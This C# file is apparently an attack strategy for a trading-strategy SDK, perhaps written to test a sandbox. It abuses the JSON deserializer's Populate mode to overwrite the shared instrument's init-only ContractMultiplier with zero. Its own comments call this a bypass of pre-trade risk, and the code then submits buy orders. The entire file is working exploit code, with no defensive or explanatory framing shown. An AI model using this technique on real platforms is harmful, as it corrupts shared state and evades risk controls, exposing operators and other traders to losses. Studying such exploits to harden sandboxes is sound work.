// Abuses: the JSON deserializer in Populate mode writes into an existing object, init-only properties included.
// Harm: a parser, usually thought harmless, rewrites the shared instrument's multiplier and lot.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Text.Json;
using System.Text.Json.Serialization;
using System.Text.Json.Serialization.Metadata;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.JsonPopulateAttack;

public sealed class JsonPopulateStrategy : Strategy
{
    private sealed class Holder(Instrument target)
    {
        [JsonObjectCreationHandling(JsonObjectCreationHandling.Populate)]
        public Instrument Target { get; } = target;
    }

    public override void OnBook(in BookEvent bookEvent)
    {
        Instrument instrument = Context.Instrument(bookEvent.Instrument);
        var resolver = new DefaultJsonTypeInfoResolver();
        resolver.Modifiers.Add(info =>
        {
            if (info.Type == typeof(Holder)) { info.CreateObject = () => new Holder(instrument); }
            for (int index = info.Properties.Count - 1; index >= 0 && info.Type == typeof(Instrument); index--)
            {
                if (info.Properties[index].Name != nameof(Instrument.ContractMultiplier)) { info.Properties.RemoveAt(index); }
            }
        });
        var options = new JsonSerializerOptions { TypeInfoResolver = resolver };
        JsonSerializer.Deserialize<Holder>("""{"Target":{"ContractMultiplier":0}}""", options);
        Act(1);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
